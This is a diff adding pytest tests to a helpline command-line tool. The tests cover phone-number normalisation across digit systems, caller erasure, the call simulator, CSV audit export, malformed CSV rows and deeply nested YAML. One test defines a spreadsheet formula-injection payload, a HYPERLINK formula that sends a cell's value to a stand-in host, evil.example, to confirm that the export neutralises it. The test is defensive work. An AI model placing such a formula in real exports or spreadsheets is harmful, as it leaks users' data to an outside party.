@@ -33,3 +33,97 @@ def test_a_number_of_two_digit_systems_is_refused_by_the_list_and_by_opt_out(tmp
     assert "line 2: phone is not an E.164 number" in refused.stderr
     bad = cli("survey-campaign", "opt-out", country, "--caller", A_MIXED, "--state", state, code=2)
     assert "--caller is not an E.164 phone number" in bad.stderr
+
+
+# ---------------------------------------------------------------------------- erase and the simulator
+
+CALLER = "+48600700900"
+DAY = "2026-03-02T10:30"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def _called(tmp_path, caller: str = CALLER):
+    """A state folder after one simulated call (a case of the caller: pl, Ukrainian, topic 2)."""
+    state = tmp_path / "state"
+    cli("call", "pl", "--lang", "uk", "--press", "-", "2", "--at", DAY, "--caller", caller, "--state", state)
+    return state
+
+
+def test_erase_finds_the_caller_by_a_number_in_another_digit_system_and_refuses_mixed_ones(tmp_path):
+    state = _called(tmp_path)
+    mixed = cli("erase", "--caller", A_MIXED, "--state", state, code=2)
+    assert mixed.stderr.strip() == "--caller is not an E.164 phone number (e.g. +48600700800)"
+    arabic = "+\u0664\u0668\u0666\u0660\u0660\u0667\u0660\u0660\u0669\u0660\u0660"  # CALLER in Arabic-Indic
+    assert "erased caller" in cli("erase", "--caller", arabic, "--state", state).stdout
+
+
+def test_the_simulator_takes_the_caller_through_the_same_normaliser(tmp_path):
+    fullwidth = "\uff0b\uff14\uff18\uff16\uff10\uff10\uff17\uff10\uff10\uff19\uff10\uff10"  # CALLER, fullwidth
+    state = _called(tmp_path, fullwidth)
+    assert [c["caller_id"]["S"] for c in _items(state, "Callers")] == [_pseudonym(state, CALLER)]
+    refused = cli("call", "pl", "--lang", "uk", "--caller", "+48 600 7OO 900", code=2)
+    assert refused.stderr.strip() == "--caller is not an E.164 phone number (e.g. +48600700800) nor 'anonymous'"
+
+
+# ---------------------------------------------------------------------------- CSV exports
+
+
+def test_no_export_cell_starts_a_spreadsheet_formula(tmp_path):
+    import csv
+    import io
+
+    state = _called(tmp_path)
+    cli("erase", "--caller", CALLER, "--state", state, "--actor", FORMULA)
+    text = cli("audit", "export", "--state", state, "--format", "csv").stdout
+    rows = list(csv.reader(io.StringIO(text)))
+    actors = [row[5] for row in rows[1:]]
+    assert f"'{FORMULA}" in actors  # kept readable, as text
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    jsonl = cli("audit", "export", "--state", state, "--format", "jsonl").stdout
+    assert FORMULA in {json.loads(line)["actor"] for line in jsonl.splitlines()}  # JSON Lines: the value as is
+
+
+def test_an_export_into_a_missing_folder_is_one_line(tmp_path):
+    state = _called(tmp_path)
+    target = tmp_path / "no-such-folder" / "export.csv"
+    result = cli("audit", "export", "--state", state, "--output", target, code=2)
+    assert result.stderr.strip().splitlines() == [f"{target}: cannot write the export: No such file or directory"]
+    assert "Traceback" not in result.stdout + result.stderr
+
+
+# ---------------------------------------------------------------------------- strict list rows
+
+
+def test_a_row_with_more_or_fewer_cells_than_its_header_is_refused_with_its_line(tmp_path):
+    country = _survey_country(tmp_path)
+    people = tmp_path / "cut.csv"
+    people.write_text(
+        "phone,language,consent\n"
+        "+48600700801,uk,agreed at the desk, Warsaw 2026-03-01\n"  # unquoted comma: the consent text is cut
+        "+48600700802,uk\n"
+        "+48600700803,uk,ok\n",
+        encoding="utf-8",
+    )
+    result = _start(country, "c-1", people, "--state", tmp_path / "state", code=2)
+    assert result.stderr.strip().splitlines() == [
+        f"survey-campaign: {people}: 2 bad row(s), nothing written:",
+        "  line 2: 4 cells, the header has 3; fix: put a cell that holds a comma in double quotes",
+        "  line 3: 2 cells, the header has 3; fix: put a cell that holds a comma in double quotes",
+    ]
+    assert not (tmp_path / "state" / "SurveyCampaignContacts.jsonl").exists()
+
+
+# ---------------------------------------------------------------------------- country files
+
+
+def test_a_deeply_nested_country_file_is_one_line(tmp_path):
+    from helpline.config import COUNTRIES_DIR
+
+    deep = tmp_path / "pl.yaml"
+    depth = 5000
+    text = (COUNTRIES_DIR / "pl.yaml").read_text(encoding="utf-8")
+    deep.write_text(text + "tags: " + "[" * depth + "]" * depth + "\n", encoding="utf-8")
+    result = cli("validate", deep, code=2)
+    (line,) = result.stderr.strip().splitlines()
+    assert "nested deeper than" in line and line.startswith(str(deep))
+    assert "Traceback" not in result.stdout + result.stderr
